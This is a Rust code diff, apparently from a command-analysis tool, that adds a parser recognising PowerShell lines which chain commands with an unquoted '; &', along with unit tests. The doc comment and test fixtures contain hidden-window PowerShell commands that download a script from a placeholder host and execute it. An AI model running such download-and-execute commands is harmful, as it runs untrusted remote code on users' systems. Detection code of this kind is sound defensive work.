@@ -161,6 +161,34 @@ impl Analysis<'_> {
     }
 }
 
+/// Whether a line starts PowerShell and goes on, without quotes, in a way that no other shell reads:
+/// `powershell -c iwr … -OutFile a.ps1; & a.ps1`. Where it is started it is PowerShell's as a whole.
+pub(super) fn is_no_shells(line: &str) -> bool {
+    let first = line.split_whitespace().next().unwrap_or_default();
+    let name = first.rsplit(['/', '\\']).next().unwrap_or(first);
+    let name = name.to_ascii_lowercase();
+    if !matches!(
+        name.strip_suffix(".exe").unwrap_or(&name),
+        "powershell" | "pwsh"
+    ) {
+        return false;
+    }
+    let mut quote = None;
+    let mut ended = false;
+    for c in line.chars() {
+        match (quote, c) {
+            (Some(open), c) if c == open => quote = None,
+            (Some(_), _) => {}
+            (None, '"' | '\'') => quote = Some(c),
+            (None, ';') => ended = true,
+            (None, '&') if ended => return true,
+            (None, c) if c.is_whitespace() => {}
+            (None, _) => ended = false,
+        }
+    }
+    false
+}
+
 /// The host of the first address in a line, with its owner's path where many share it.
 fn host_in(line: &str) -> Option<String> {
     let at = line.find("://")?;
@@ -176,6 +204,24 @@ fn host_in(line: &str) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_line_that_only_power_shell_reads_is_told_by_what_ends_its_commands() {
+        for whole in [
+            r"powershell -w hidden -c iwr https://c.invalid/x -OutFile $env:TEMP\a.ps1; & $env:TEMP\a.ps1",
+            r"C:\Windows\powershell.exe -c iwr https://c.invalid/x -OutFile a.ps1 ;& a.ps1",
+        ] {
+            assert!(is_no_shells(whole), "{whole}");
+        }
+        for other in [
+            "powershell -c \"iwr x; & y\" && node build.js",
+            "powershell -c a; node b.js & node c.js",
+            "node a.js; & b",
+            "powershell -File a.ps1 & exit",
+        ] {
+            assert!(!is_no_shells(other), "{other}");
+        }
+    }
 
     #[test]
     fn an_address_is_found_behind_letters_of_several_bytes() {
